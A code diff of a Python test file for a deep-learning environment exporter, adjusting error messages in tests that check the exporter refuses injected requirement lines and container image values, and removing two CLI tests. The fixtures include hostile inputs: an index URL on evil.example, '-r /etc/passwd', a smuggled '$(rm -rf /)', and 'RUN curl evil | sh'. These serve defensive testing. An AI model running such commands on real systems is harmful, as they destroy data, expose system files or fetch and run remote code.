@@ -9,13 +9,12 @@ from pathlib import Path
 
 import pytest
 
-from dlconfig.cli import main
 from dlconfig.export import bundle as bundle_module
 from dlconfig.export.bundle import export_bundle
 from dlconfig.export.errors import ExportError
 from dlconfig.kb import KnowledgeBase
 
-from .conftest import PLANS_DIR, load_plan
+from .conftest import load_plan
 
 
 def _fake_pdf(*_: object) -> bytes:
@@ -97,8 +96,8 @@ def test_full_disk_leaves_no_partial_bundle(
     ("line", "message"),
     [
         ("--index-url http://evil.example/simple", "--index-url URL"),
-        ("-r /etc/passwd", "requirement line"),
-        ("torch==2.9.1 ; $(rm -rf /)", "requirement line"),
+        ("-r /etc/passwd", "requirement_lines"),
+        ("torch==2.9.1 ; $(rm -rf /)", "requirement_lines"),
     ],
 )
 def test_plan_with_injected_requirement_is_refused(
@@ -137,57 +136,10 @@ def test_plan_with_injected_image_is_refused(tmp_path: Path, kb: KnowledgeBase) 
     container = plan.container.model_copy(
         update={"runtime_image": "ubuntu:24.04\nRUN curl evil | sh"}
     )
-    with pytest.raises(ExportError, match="runtime image"):
+    with pytest.raises(ExportError, match=r"container\.runtime_image"):
         export_bundle(
             plan.model_copy(update={"container": container}),
             tmp_path / "out",
             kb=kb,
             write_pdf=_fake_pdf,
         )
-
-
-@pytest.mark.parametrize(
-    ("content", "message"),
-    [
-        ("{not json", "is not valid JSON or YAML"),
-        (
-            '{"schema": "dlconfig.plan/1", "created": "2026-12-02"}',
-            "is not a valid plan: app_version",
-        ),
-        ("[1, 2]", "a mapping at the top level"),
-        ("name: x\nbatch_size: -3\n", "is not a valid workload: batch_size"),
-    ],
-)
-def test_cli_reports_bad_input_in_one_line(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str], content: str, message: str
-) -> None:
-    src = tmp_path / ("in.json" if content.lstrip().startswith(("{", "[")) else "in.yaml")
-    src.write_text(content)
-    code = main(["export", str(src), "--out", str(tmp_path / "out")])
-    err = capsys.readouterr().err
-    assert code == 1
-    assert message in err and err.count("\n") == 1 and "Traceback" not in err
-    assert not (tmp_path / "out").exists()
-
-
-def test_cli_exports_a_plan_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    out = tmp_path / "bundle"
-    code = main(
-        [
-            "export",
-            str(PLANS_DIR / "wsl2_tensorflow.json"),
-            "--out",
-            str(out),
-            "--lang",
-            "zh_TW",
-            "--no-pdf",
-            "--json",
-        ]
-    )
-    assert code == 0, capsys.readouterr().err
-    assert "scripts/setup_wsl2.ps1" in capsys.readouterr().out
-    readme = (out / "README.md").read_text(encoding="utf-8")
-    assert readme.startswith("# unet-seg 的深度學習環境")
-    assert "操作步驟" in readme and "setup_wsl2.ps1" in readme
-    assert not (out / "report.pdf").exists()
-    assert main(["export", str(PLANS_DIR / "wsl2_tensorflow.json"), "--out", str(out)]) == 1
